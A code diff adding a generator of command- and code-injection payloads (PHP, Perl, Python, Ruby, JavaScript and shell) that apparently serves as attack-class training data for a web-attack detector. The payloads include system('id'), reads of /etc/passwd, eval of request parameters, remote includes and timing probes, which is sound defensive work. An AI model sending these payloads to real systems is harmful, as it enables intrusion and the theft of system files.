@@ -460,6 +460,143 @@ def cmdi_matrix():
     return out
 
 
+def code_probe_matrix():
+    """Made by us, second command matrix (declared in docs/detection.md before it was run): what
+    cmdi_matrix() does not vary, written from the grammars of PHP, Perl, Python, Ruby, JavaScript and
+    the shells and from how scanners and attackers reach an interpreter from a parameter, not from
+    any payload list. Code-evaluation break-outs (a string literal closed with ' or " then a call or
+    statement, the rest re-opened or commented; a join operator; an interpolation), interpreter
+    one-liners, probes that print a marker or wait, and information commands without arguments,
+    after every separator, with and without data before, inside quotes. Returns three lists: code
+    in Perl, Python, Ruby and JavaScript (class cmdi), shell commands (cmdi), PHP code (php), so
+    that each is drawn on its own."""
+    rnd = random.Random("code probe matrix")
+
+    def token():
+        return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
+
+    # Each language: expressions (fit anywhere a value is read), statements (fit after ; or a line
+    # break), how it joins strings, how a comment runs to the end of the line, how a variable is
+    # re-opened so that the application's closing quote ends a string again, and how a
+    # double-quoted string interpolates code.
+    langs = {
+        "php": dict(
+            expr=["print(md5({n}))", "print({n}*7)", "system('id')", 'system("uname -a")', "passthru('id')",
+                  "shell_exec('whoami')", "exec('id')", "phpinfo()", "eval($_GET['c'])", "assert($_POST[1])",
+                  "sleep(5)", "usleep(5000000)", "die(md5({n}))", "file_get_contents('/etc/passwd')",
+                  "print_r(scandir('.'))", "var_dump(get_defined_vars())", "`id`", "md5({n})",
+                  "include('http://203.0.113.9/{t}.txt')", "base64_decode('cGhwaW5mbygp')", "popen('id','r')",
+                  "print_r(getenv())", "highlight_file(__FILE__)", "printf({n})"],
+            stmt=["echo {n}", "echo md5({n})", "print {n}", "echo `id`", "require 'http://203.0.113.9/{t}'",
+                  "include 'http://203.0.113.9/{t}.txt'", "$a=`uname -a`;echo $a", "eval('phpinfo();')",
+                  "system('sleep 5')", "die"],
+            join=".", comment=["//", "#", "/*"], reopen=["$a=", "$x="],
+            interp=["${%s}", "{${%s}}", "${@%s}"], tags=True),
+        "perl": dict(
+            expr=["system('id')", 'system "id"', "exec('id')", "`id`", "qx(id)", "qx{uname -a}", "qx/id/",
+                  "print {n}", 'print "{t}"', 'eval("print {n}")', "eval { system 'id' }", 'die "{t}"',
+                  "sleep 5", "sleep(5)", "open(my $f,'|id')", "readpipe('id')", "print `id`"],
+            stmt=["use Socket", "require IO::Socket", "print STDOUT {n}", "$_=`id`;print"],
+            join=".", comment=["#"], reopen=["$a=", "$x="], interp=["@{[%s]}", "${\\ %s}"], tags=False),
+        "python": dict(
+            expr=["__import__('os').system('id')", '__import__("os").popen("id").read()',
+                  "__import__('time').sleep(5)", "__import__('subprocess').check_output('id')", "eval('7*7')",
+                  "exec('import os')", "print({n})", "str({n}*7)", "open('/etc/passwd').read()",
+                  "os.system('id')", "os.popen('uname -a').read()", "subprocess.call('id',shell=True)",
+                  "time.sleep(5)", "globals()", "compile('{n}','x','exec')"],
+            stmt=["import os;os.system('id')", "import time;time.sleep(5)", 'exec("import os")',
+                  "from os import system;system('id')", "import subprocess"],
+            join="+", comment=["#"], reopen=["a=", "x="], interp=["{%s}"], tags=False),
+        "ruby": dict(
+            expr=["system('id')", "system 'id'", "`id`", "%x(id)", "%x{uname -a}", "exec('id')",
+                  "IO.popen('id').read", "Kernel.system('id')", "eval('7*7')", "puts {n}", "puts({n})",
+                  "print {n}", "sleep(5)", "sleep 5", "File.read('/etc/passwd')", "Open3.capture2('id')",
+                  "spawn('id')"],
+            stmt=["require 'open3'", "require 'socket'", "puts `id`"],
+            join="+", comment=["#"], reopen=["a=", "x="], interp=["#{%s}"], tags=False),
+        "js": dict(
+            expr=["require('child_process').execSync('id')", 'require("child_process").exec("id")',
+                  "process.mainModule.require('child_process').execSync('id')", "eval('7*7')",
+                  "Function('return process')()", "console.log({n})", "res.end(require('fs').readFileSync('/etc/passwd'))",
+                  "require('fs').readdirSync('.')", "setTimeout(function(){},5000)",
+                  "this.constructor.constructor('return process')()", "process.kill(process.pid)",
+                  "new Function('return {n}')()"],
+            stmt=["var a=require('child_process')", "var d=Date.now();while(Date.now()-d<5000);",
+                  "const {execSync}=require('child_process');execSync('id')"],
+            join="+", comment=["//"], reopen=["var a=", "a="], interp=["${%s}"], tags=False),
+    }
+    cmdi, php = [], []
+    for name, L in langs.items():
+        out = php if name == "php" else cmdi
+        j, exprs, stmts = L["join"], L["expr"], L["expr"] + L["stmt"]
+        for e in exprs:
+            for q in ("'", '"'):
+                out.append(q + j + e + j + q)                    # '.system('id').'
+                out.append("x" + q + j + e + j + q)
+                out.append(q + j + e + ";" + L["comment"][0])     # '.system('id');//
+            if name == "js":
+                out += ["'-" + e + "-'", '"-' + e + '-"', "'||" + e + "||'"]
+            for it in L["interp"]:
+                out.append(it.replace("%s", e))                   # ${system('id')}, #{`id`}
+                out.append("x " + it.replace("%s", e) + " y")
+            out += [e, "1 " + j + " " + e]
+        for s in stmts:
+            for q in ("'", '"', "", "1", "1'", "x')", 'x")', "1)"):
+                for c in L["comment"]:
+                    out.append(q + ";" + s + ";" + c)              # ';system('id');//
+                # re-open what the value closed, so that the application's own closing
+                # quote and bracket end the statement again: '...;$a=' or ...;$a=('
+                qc = "'" if "'" in q else '"' if '"' in q else ""
+                for r in L["reopen"]:
+                    out.append(q + ";" + s + ";" + r + ("(" if ")" in q else "") + qc)
+                out.append(q + "\n" + s + "\n")
+                out.append(q + ";" + s + ";")
+            out.append(s + ";")
+            if L["tags"]:
+                out += ["?><?php " + s + ";?>", "<?php " + s + "; ?>", "<?=" + s + "?>", "'?><?php " + s + ";//"]
+
+    def fill(v):
+        return v.replace("{n}", str(rnd.randint(10000, 99999))).replace("{t}", token())
+
+    code, php, shell = [fill(v) for v in cmdi], [fill(v) for v in php], []
+
+    # Commands after a separator: interpreter one-liners, probes that print a marker or wait, and
+    # information commands without arguments.
+    oneliners = ["perl -e 'print {n}'", "perl -e \"system('id')\"", "perl -MIO -e 'print {n}'",
+                 "python -c 'import os;os.system(\"id\")'", "python3 -c \"print({n})\"",
+                 "python -c \"__import__('time').sleep(5)\"", "php -r 'system(\"id\");'", "php -r \"echo {n};\"",
+                 "ruby -e 'puts {n}'", "ruby -e '`id`'", "node -e 'require(\"child_process\").execSync(\"id\")'",
+                 "node -e \"console.log({n})\"", "powershell -c \"Start-Sleep 5\"", "powershell -Command Get-ChildItem",
+                 "powershell.exe -nop -c whoami", "pwsh -c whoami", "lua -e 'os.execute(\"id\")'", "bash -c id",
+                 "sh -c 'sleep 5'", "cmd /c ver", "cmd.exe /c set"]
+    probes = ["echo {t}", "echo '{t}'", "echo \"{t}\"", "echo {t} {t}", "printf {t}", "echo {t}$((7*6))",
+              "sleep 5", "sleep 10", "ping -c 5 127.0.0.1", "ping -n 5 127.0.0.1", "ping -c5 127.0.0.1",
+              "ping 127.0.0.1 -n 5", "ping -i 5 -c 2 localhost", "timeout 5", "timeout /t 5", "timeout /T 5 /NOBREAK",
+              "set /a {n}*7", "Start-Sleep -s 5", "Write-Output {t}", "[System.Threading.Thread]::Sleep(5000)",
+              "iex('whoami')", "Invoke-Expression whoami"]
+    info = ["id", "env", "set", "ver", "uname", "whoami", "hostname", "pwd", "printenv", "ls", "dir", "ps",
+            "ipconfig", "ifconfig", "netstat", "systeminfo"]
+    seps = [";", " ;", "; ", "|", " | ", "||", "&", " & ", "&&", "\n", "\r\n", "\r", "%0a", "%0d%0a", "%26",
+            "%3b", "%7c", "$(", "`"]
+    contexts = [(b, a) for b in ("", "1", "alex", "127.0.0.1", "x)", "1 ", "index.html")
+                for a in ("", ";", "&", "|", " #", "\n", ";#", "&&", "||")]
+    for q in ("'", '"'):
+        contexts += [(b.replace("'", q), a.replace("'", q))
+                     for b in ("'", "x'", "1'", "x')")
+                     for a in ("'", ";'", "|'", "&'", " #", " #'", ";#", "&&'", "||'")]
+    for b, a in contexts:
+        for s in seps:
+            for c in oneliners + probes + info:
+                if s == "$(":
+                    body = b + "$(" + c + ")"
+                elif s == "`":
+                    body = b + "`" + c + "`"
+                else:
+                    body = b + s + c
+                shell.append(fill(body + a))
+    return code, shell, php
+
+
 def half(path, want):
     """The fixed split of a source whose files go to both sets: by the first hex digit of the sha1 of
     the file's path inside its package, even to training, odd to test; decided before any was read."""
@@ -632,6 +769,10 @@ def training(out, root, blns_txt, repo):
     emit(out, "train", "traversal matrix (made by us)", "path_traversal", "attack", traversal_matrix(), ("file",))
     emit(out, "train", "traversal grammar (made by us)", "path_traversal", "attack", traversal_grammar(), ("file",))
     emit(out, "train", "command matrix (made by us)", "cmdi", "attack", cmdi_matrix(), ("query", "form", "json"))
+    code, shell, php = code_probe_matrix()
+    emit(out, "train", "code matrix (made by us)", "cmdi", "attack", code, ("query", "form", "json"))
+    emit(out, "train", "probe matrix (made by us)", "cmdi", "attack", shell, ("query", "form", "json"))
+    emit(out, "train", "PHP code matrix (made by us)", "php", "attack", php, ("query", "form", "json"))
     emit(out, "train", "wfuzz/vulns/sql_inj.txt", "sqli", "attack", lines(os.path.join(wf, "vulns/sql_inj.txt")),
          ("query", "form", "json"))
     for cls, label, vals in blns(blns_txt):
